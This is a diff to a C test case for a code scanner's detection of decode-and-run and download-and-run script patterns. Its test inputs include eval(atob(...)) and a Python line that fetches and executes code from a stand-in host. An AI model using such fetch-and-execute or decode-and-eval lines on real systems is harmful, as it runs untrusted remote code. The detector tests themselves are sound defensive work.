@@ -330,6 +330,12 @@ TEST(code_that_is_decoded_or_fetched)
     CHECK(!flag(F_SCRIPT_DECODE_RUN));
     look_at("/x.py", "exec(code)\nicon = base64.b64decode(text)\n");
     CHECK(!flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.js", "eval(\"\\nObject.defineProperty(exports, \\\"__esModule\\\", ({ value: true }));\\nexports.x = Buffer.from(y, 'base64');\");\n");
+    CHECK(!flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.js", "eval(\"\\nObject.defineProperty(exports, \\\"__esModule\\\", ({ value: true }));\\n eval(atob(y));\");\n");
+    CHECK(flag(F_SCRIPT_DECODE_RUN));
+    look_at("/x.js", "x = Function('a', 'b', 'return a ' + '* b + ' + 'a / b;');\n");
+    CHECK(!flag(F_SCRIPT_DECODE_RUN));
     look_at("/x.py", "exec(urllib.request.urlopen('http://192.0.2.1/x').read())\n");
     CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
     CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/x)");
